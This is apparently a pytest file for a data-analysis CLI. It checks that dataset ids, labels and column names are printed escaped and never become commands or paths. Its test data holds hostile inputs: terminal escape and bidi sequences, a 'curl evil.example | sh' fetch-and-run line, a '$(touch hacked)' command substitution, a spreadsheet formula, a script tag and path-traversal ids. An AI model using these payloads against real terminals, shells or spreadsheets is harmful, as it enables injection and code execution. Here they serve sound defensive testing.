"""Ids, labels, subjects and names of columns are data: none reaches a terminal, a path or a page as a command."""

from __future__ import annotations

import csv
import json
import logging
import os
import pty
import subprocess
from collections.abc import Sequence
from pathlib import Path

import bad_inputs
import pandas as pd
import pytest
import typer
from program import PROGRAM, TINY, Result, invoke

from pdmr_classic import load_dataset
from pdmr_classic.cli import _console
from pdmr_classic.errors import DataError, Finding
from pdmr_classic.progress import LogReporter
from pdmr_classic.reporting.tables import prediction_table
from pdmr_classic.text import escape_unprintable, to_json

HOSTILE = (
    "\x1b[31mRED",
    "\x1b]0;title\x07",
    "\x9b31mC1",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\".replace("/", "").replace("\\", ""),
    "[red]x",
    "[link=https:evil.example]x",
    ":warning:",
    "a\n  hint:     curl evil.example | sh",
    "back\rto the start",
    "\b\b\b",
    "\u202egnp.exe",
    "\u2066x",
    "zero\u200bwidth",
    "\u2028line",
    "😀",
    "q\"u'ote`id`",
    "$(touch hacked);touch hacked",
    "=HYPERLINK(1)",
    "<script>alert(1)<script>",
    "%s%n{0}{data_id}",
    "--help",
    "a, b",
)
POSITIVE, NEGATIVE = "\x1b[31m[red]sad[/red]\u202e", "[/red]:warning:\n\x9b1mwell/../"


def is_safe(text: str) -> bool:
    return all(line.isprintable() for line in text.split("\n"))


def checked(result: Result, code: int = 0) -> Result:
    assert result.exit_code == code, result.output
    for text in (result.stdout, result.stderr):
        assert is_safe(text), ascii(text)
    return result


def write_csv(path: Path, rows: Sequence[Sequence[str]]) -> None:
    with path.open("w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerows(rows)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a folder with a set in which every name is hostile: of files, subjects, labels and channels."""
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "tiny.toml").write_text(TINY)
    rows = [["data_id", "status", "subject_id", "\x1b[2J[blink]"]]
    for number, data_id in enumerate(HOSTILE):
        bad_inputs.write_recording(folder / "train", data_id)
        path = folder / "train" / "video" / f"{data_id}.csv"
        table = list(csv.reader(path.read_text().splitlines()))
        table[0][-1], table[0][-2] = "\x1b]0[red]\u202echannel", "../../AU12_r"
        write_csv(path, table)
        rows.append([data_id, (POSITIVE, NEGATIVE)[number % 2], f"\x1b[3{number}m", "\x07"])
    write_csv(folder / "train" / "labels.csv", rows)
    for data_id in HOSTILE:
        bad_inputs.write_recording(folder / "test", data_id, seed="test")
    checked(invoke("fit", "train", "--config", "tiny.toml", "--out", "m.joblib", *positive(), cwd=folder))
    return folder


def positive() -> tuple[str, str]:
    return "--positive", POSITIVE


COMMANDS = (
    ("check", "train"),
    ("extract", "train", "--out", "f.parquet"),
    ("predict", "test", "--model", "m.joblib", "--out", "r.jsonl", "--proba"),
    ("score", "r.jsonl", "train/labels.csv", *positive()),
    ("evaluate", "train", "--config", "tiny.toml", "--folds", "2", "--repeats", "1", "--by", "status", *positive()),
)


@pytest.mark.parametrize("command", COMMANDS, ids=lambda command: command[0])
def test_every_verb_prints_names_escaped_and_gives_them_back_in_json(hostile: Path, command: tuple[str, ...]) -> None:
    before, beside = set(hostile.rglob("*")), set(hostile.parent.iterdir())
    if command[0] == "score":
        invoke(*COMMANDS[2], cwd=hostile)
    text = checked(invoke(*command, cwd=hostile)).stdout
    shown = json.loads(checked(invoke(*command, "--json", cwd=hostile)).stdout)
    if command[0] in ("check", "predict"):
        classes = shown["predicted"] if command[0] == "predict" else shown["splits"]["train"]["classes"]
        assert set(classes) == {POSITIVE, NEGATIVE}
        assert all(escape_unprintable(label) in text for label in classes)
    names = {path.name for path in set(hostile.rglob("*")) - before}
    assert names <= {"f.parquet", "r.jsonl", "r.notes.json", "evaluation.json"}
    assert set(hostile.parent.iterdir()) == beside


def test_results_and_features_hold_the_names_as_they_are(hostile: Path) -> None:
    checked(invoke(*COMMANDS[2], cwd=hostile))
    text = (hostile / "r.jsonl").read_text(encoding="utf-8")
    assert is_safe(text), "a file that is shown by `cat` is safe, too"
    results = [json.loads(line) for line in text.split("\n")[:-1]]
    assert [result["data_id"] for result in results] == sorted(HOSTILE)
    assert {result["status"] for result in results} <= {POSITIVE, NEGATIVE}
    checked(invoke(*COMMANDS[1], cwd=hostile))
    assert sorted(pd.read_parquet(hostile / "f.parquet")["data_id"]) == sorted(HOSTILE)


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("video/{}.csv", b"", "empty"),
        ("video/{}.csv", b"frame,\x1b[31m[red]\xe2\x80\xaex\n1,2\n2,smile\x1b[2J\n", "text-in-number-column"),
        ("video/{}.csv", b"\x1b[2J,\x1b[2J\n1,2\n", "duplicate-columns"),
        ("video/{}.csv", b"\x1b[2J,\x07\n1\n", "short-row"),
        ("audio/{}.csv", b"\x1b[2J\nx\x07\n", "no-numbers"),
    ],
)
@pytest.mark.parametrize("data_id", ["\x1b[31m[red]bad\u202e", "a\nerror: all is lost", "q\"u'\x9bo"])
def test_refusals_print_names_escaped_on_their_own_lines(
    tmp_path: Path, name: str, content: bytes, code: str, data_id: str
) -> None:
    bad_inputs.write_set(tmp_path / "set")
    path = tmp_path / "set" / name.format(data_id)
    path.write_bytes(content)
    with (tmp_path / "set" / "labels.csv").open("a", newline="") as file:
        csv.writer(file).writerow([data_id, "Normal", "S9"])
    for verb in ("extract", "fit", "check"):
        result = checked(invoke(verb, "set", cwd=tmp_path), 3)
        lines = result.stderr.splitlines()
        assert sum(line.startswith("error:") for line in lines) == (verb != "check")
        assert verb == "check" or any(
            escape_unprintable(path.name) in line for line in lines if line.startswith("  where:")
        )
    (refused,) = json.loads(checked(invoke("check", "set", "--json", cwd=tmp_path), 3).stdout)["refused"]
    assert (refused["code"], Path(refused["file"]).name) == (code, path.name)


@pytest.mark.parametrize(
    "rows",
    [
        [["\x1b[2Ja", "Normal", "\x1b[2J"], ["\x1b[2Ja", "Depression", "\x1b[2J"]],
        [["../\x1b[2J\u202e", "Normal", "S"]],
        [["000", "\x1b[31mNormal", "S"], ["001", "Normal", "S"], ["002", "Depression", "S2"]],
        [["\x1b[2J", "Normal", "S"]],
        [["000", "Normal\x1b[2J", "S"]],
    ],
)
def test_refused_labels_are_printed_escaped(tmp_path: Path, rows: list[list[str]]) -> None:
    bad_inputs.write_set(tmp_path / "set")
    write_csv(tmp_path / "set" / "labels.csv", [["data_id", "status", "subject_id"], *rows])
    for verb in ("fit", "check"):
        checked(invoke(verb, "set", cwd=tmp_path), 3)


def test_a_folder_of_any_name_is_read_and_written_to(tmp_path: Path) -> None:
    folder = tmp_path / os.fsdecode(b"caf\xe9 \x1b[31m\n[red]")
    bad_inputs.write_set(folder)
    (tmp_path / "tiny.toml").write_text(TINY)
    for verb, *args in (
        ("check",),
        ("extract", "--out", folder / "f.parquet"),
        ("fit", "--config", "tiny.toml", "--out", folder / "m.joblib"),
        ("predict", "--model", folder / "m.joblib", "--out", folder / "r.jsonl", "--allow-overlap"),
    ):
        checked(invoke(verb, folder, *args, cwd=tmp_path))
        checked(invoke(verb, folder, *args, "--json", cwd=tmp_path))


def test_a_bug_and_its_traceback_are_printed_escaped(capsys: pytest.CaptureFixture[str]) -> None:
    @_console.handle_errors
    def broken(debug: bool = False) -> None:
        raise RuntimeError("\x1b[2J")

    with pytest.raises(typer.Exit) as ended:
        broken(debug=True)
    assert ended.value.exit_code == 1
    shown = capsys.readouterr().err
    assert is_safe(shown)
    assert shown.count("RuntimeError: \\x1b[2J") == 2


def test_on_a_terminal_only_the_program_itself_moves_the_cursor(hostile: Path) -> None:
    payloads = [name.encode() for name in (*HOSTILE, POSITIVE, NEGATIVE) if not is_safe(name)]
    for command in (COMMANDS[0], COMMANDS[2]):
        shown = on_terminal(*command, cwd=hostile)
        assert b"\x1b[" in shown, "the program knows that this is a terminal"
        for payload in payloads:
            assert payload not in shown


def on_terminal(*args: str, cwd: Path) -> bytes:
    """Run the program on a terminal of its own, and return all that it shows."""
    ours, its = pty.openpty()
    environment = {**os.environ, "TERM": "xterm-256color", "COLUMNS": "80"}
    process = subprocess.Popen([PROGRAM, *args], cwd=cwd, env=environment, stdin=its, stdout=its, stderr=its)
    os.close(its)
    shown = b""
    try:
        while block := os.read(ours, 1 << 16):
            shown += block
    except OSError:  # the other side is closed
        pass
    os.close(ours)
    assert process.wait(60) == 0, shown
    return shown


# ---------------------------------------------------------------------------------------------- the mechanism


@pytest.mark.parametrize("text", [*HOSTILE, POSITIVE, NEGATIVE, "\udce9", "\U000e0001", "\xa0", "\x00"])
def test_escaped_text_is_one_printable_line_and_json_gives_it_back(text: str) -> None:
    assert escape_unprintable(text).isprintable()
    assert escape_unprintable(escape_unprintable(text)) == escape_unprintable(text)
    assert to_json({text: [text]}).isprintable()
    assert json.loads(to_json({text: [text]}, indent=2)) == {text: [text]}


def test_what_is_printable_stays_as_it_is() -> None:
    for text in ("Größe, naïve, 深い, 😀, [red]x[/red]", ""):
        assert escape_unprintable(text) == text
        assert to_json(text) == f'"{text}"'


def test_a_number_that_json_does_not_know_is_an_error() -> None:
    with pytest.raises(ValueError, match="not JSON compliant"):
        to_json(float("nan"))


def test_every_part_of_a_finding_is_printed_escaped(caplog: pytest.LogCaptureFixture) -> None:
    text = "\x1b[2J\n  hint:     x"
    finding = Finding("x", text, file=text, row=1, column=text, expected=text, found=text, hint=text)
    for shown in (str(finding), str(DataError(finding))):
        assert is_safe(shown)
        assert len(shown.splitlines()) == 5
    with caplog.at_level(logging.DEBUG, "pdmr_classic"):
        LogReporter().note(finding)
    assert len(caplog.messages) == 2
    assert all(map(is_safe, caplog.messages))


def test_tables_show_markup_as_text(capsys: pytest.CaptureFixture[str]) -> None:
    summary = {"predicted": {"[red]x[/red]": 1, "\x1b[31m:warning:": 2}, "out": "[bold]/r.jsonl", "synthetic": False}
    _console.show(summary, False, prediction_table)
    shown = capsys.readouterr().out
    for text in ("[red]x[/red]", "\\x1b[31m:warning:", "Written: [bold]/r.jsonl"):
        assert text in shown


def test_no_id_becomes_a_path(tmp_path: Path) -> None:
    bad_inputs.write_set(tmp_path / "set")
    with (tmp_path / "set" / "labels.csv").open("a") as file:
        file.write("../../planted,Normal,../../planted\n")
    with pytest.raises(DataError, match="the data_id of a label is not valid"):
        load_dataset(tmp_path / "set")
